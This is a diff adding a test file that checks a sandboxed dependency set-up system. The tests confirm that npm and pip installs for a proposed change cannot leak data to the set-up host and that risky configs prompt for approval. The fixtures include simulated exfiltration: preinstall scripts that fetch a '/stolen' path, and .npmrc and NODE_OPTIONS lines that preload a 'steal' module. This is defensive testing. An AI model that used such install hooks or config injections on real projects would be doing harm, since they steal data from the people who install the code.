@@ -1,0 +1,131 @@
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { type FreshPlace, openFresh } from '../../src/environment/fresh.ts';
+import type { Environment } from '../../src/environment/prepare.ts';
+import { npmProject, openRegistry, type Registry, registryHost, registryVariables } from './registry.ts';
+import { openStage, type Scene, type Stage } from './stage.ts';
+
+let stage: Stage;
+let scene: Scene;
+let registry: Registry;
+beforeAll(async () => {
+  stage = await openStage();
+  registry = await openRegistry();
+  stage.app.egress = registry.door;
+  stage.push({ ...npmProject({}), 'requirements.txt': '# none yet\n', '.npmrc': 'save-exact=true\n', 'deps.cjs': '' });
+  scene = await stage.begin();
+});
+afterAll(async () => {
+  await scene.end();
+  registry.close();
+  await stage.close();
+});
+beforeEach(async () => {
+  registry.requests.splice(0);
+  await scene.checkout.checkout(scene.base);
+});
+
+/** Changes files of the base. Returns the tree. */
+const treeWith = async (files: Record<string, string>) => {
+  for (const [path, content] of Object.entries(files)) writeFileSync(join(scene.checkout.workTree, path), content);
+  return scene.checkout.snapshot();
+};
+
+const open = { network: { setup: [registryHost], agent: [] }, env: registryVariables };
+const npm = { ...open, setup: ['npm ci'] };
+const pip = { ...open, setup: ['PIP_BREAK_SYSTEM_PACKAGES=1 pip3 install --user -r requirements.txt'] };
+const leaf = { dependencies: { leaf: '1.0.0' } };
+/** A script that sends something to the host of set-up, and another that needs an answer. */
+const [sends, needs] = ['.catch(() => {})', ''].map(
+  (andThen) =>
+    `node -e "fetch('http://${registryHost}/stolen')${andThen}.then(() => require('fs').writeFileSync('ran', ''))"`,
+);
+const asks = (...lines: RegExp[]) => ({ reasons: lines.map((line) => expect.stringMatching(line)) });
+
+const places: FreshPlace[] = [];
+afterEach(async () => {
+  for (const place of places.splice(0)) await place.close();
+});
+const freshWith = async (...given: Parameters<typeof openFresh>) => {
+  const place = await openFresh(...given);
+  places.push(place);
+  return place;
+};
+
+/** What set-up of the base left, for npm. */
+let environment: Environment;
+beforeAll(async () => {
+  environment = await scene.prepare(npm);
+});
+
+test('fetches a new package of npm; scripts of the change run later, and do not reach the host of set-up', async () => {
+  const tree = await treeWith(npmProject({ ...leaf, scripts: { preinstall: sends } }));
+  const fresh = await freshWith(environment, tree);
+  expect(fresh.failed).toBeUndefined();
+  const { output } = await fresh.machine.run(`node -p "require('leaf')"; ls ran; ls ~`, { seconds: 200 });
+  expect(output).toBe('from leaf\nran\n');
+  expect(registry.requests).toEqual(['/npm/leaf/-/leaf-1.0.0.tgz']);
+});
+
+test('asks when a command fails for want of the network, and gives it after an approval', async () => {
+  const tree = await treeWith(npmProject({ ...leaf, scripts: { preinstall: needs } }));
+  await expect(freshWith(environment, tree)).rejects.toMatchObject(asks(/^npm ci: .*refused: packages.example.org$/));
+  expect(registry.requests).not.toContain('/stolen');
+  const fresh = await freshWith(environment, tree, true);
+  expect(fresh.failed).toBeUndefined();
+  expect(registry.requests).toContain('/stolen');
+});
+
+test('a command that fails for another reason is the fault of the change', async () => {
+  const tree = await treeWith(npmProject({ ...leaf, scripts: { preinstall: 'echo broken; exit 3' } }));
+  expect((await freshWith(environment, tree)).failed).toMatchObject({ command: 'npm ci', exitCode: 3 });
+  const outdated = await treeWith({
+    'package.json': npmProject({ dependencies: { other: '1.0.0' } })['package.json'] ?? '',
+  });
+  expect((await freshWith(environment, outdated)).failed?.command).toMatch(/^npm ci --ignore-scripts/);
+});
+
+test('asks before it runs anything when the change configures npm, or names a package from git', async () => {
+  const configured = await treeWith({ ...npmProject(leaf), '.npmrc': 'node-options=--require ./steal.cjs\n' });
+  await expect(freshWith(environment, configured)).rejects.toMatchObject(asks(/^\.npmrc: /));
+  const git = { version: '1.0.0', resolved: 'git+https://packages.example.org/leaf.git#0123' };
+  const fromGit = await treeWith({ ...npmProject(leaf, git), '.npmrc': 'save-exact=true\n' });
+  await expect(freshWith(environment, fromGit)).rejects.toMatchObject(asks(/^package-lock\.json: .*git/));
+  expect(registry.requests).toEqual([]);
+});
+
+test('a fetch sees no file of the change but manifests, so not one that a variable of the base runs', async () => {
+  const env = { ...registryVariables, NODE_OPTIONS: '--require ./deps.cjs' };
+  const withVariable = await scene.prepare({ ...npm, env });
+  const stealing = `fetch('http://${registryHost}/stolen').catch(() => {});`;
+  const fresh = await freshWith(withVariable, await treeWith({ ...npmProject(leaf), 'deps.cjs': stealing }));
+  expect(fresh.failed?.output).toMatch(/Cannot find module '.\/deps.cjs'/);
+  expect(registry.requests).toEqual([]);
+});
+
+test('fetches a new wheel of pip; asks for a package without one, and reports one that does not exist', async () => {
+  const ofPip = await scene.prepare(pip);
+  const fresh = await freshWith(ofPip, await treeWith({ 'requirements.txt': 'gizmo==1.0\n' }));
+  expect(fresh.failed).toBeUndefined();
+  const { output } = await fresh.machine.run('python3 -c "import gizmo; print(gizmo.SAYS)"', {
+    seconds: 200,
+  });
+  expect(output).toBe('from gizmo\n');
+  const source = await treeWith({ 'requirements.txt': 'raw==1.0\n' });
+  await expect(freshWith(ofPip, source)).rejects.toMatchObject(asks(/^requirements.txt: .*no wheel of raw/));
+  const wrong = await treeWith({ 'requirements.txt': 'rawr==1.0\n' });
+  expect((await freshWith(ofPip, wrong)).failed?.command).toContain(' download -r requirements.txt');
+  expect(registry.requests).not.toContain('/files/raw-1.0.tar.gz');
+});
+
+test('closed has no network and never asks; approved always asks', async () => {
+  const { room } = environment;
+  const withSetting = (setupOfChange: 'closed' | 'approved') => ({
+    ...environment,
+    room: { ...room, settings: { ...room.settings, setupOfChange } },
+  });
+  const tree = await treeWith(npmProject(leaf));
+  expect((await freshWith(withSetting('closed'), tree)).failed).toMatchObject({ command: 'npm ci' });
+  await expect(freshWith(withSetting('approved'), tree)).rejects.toMatchObject(asks(/setupOfChange/));
+  expect(registry.requests).toEqual([]);
+});
